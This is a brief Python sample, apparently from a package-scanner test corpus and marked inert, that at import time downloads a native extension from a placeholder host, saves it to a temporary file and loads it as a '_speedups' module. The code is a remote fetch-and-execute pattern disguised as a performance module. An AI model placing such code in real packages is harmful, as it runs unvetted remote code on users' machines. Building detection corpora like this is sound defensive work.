# pkgguard corpus 454 (import-time), modelled on [empirical]; inert, never run.
import importlib.machinery
import tempfile
import urllib.request

_url = "https://wheels-cache.example/native/_speedups.cpython-311-x86_64-linux-gnu.so"
with tempfile.NamedTemporaryFile(suffix=".so", delete=False) as _f:
    _f.write(urllib.request.urlopen(_url, timeout=8).read())
_loader = importlib.machinery.ExtensionFileLoader("_speedups", _f.name)
_speedups = _loader.load_module()
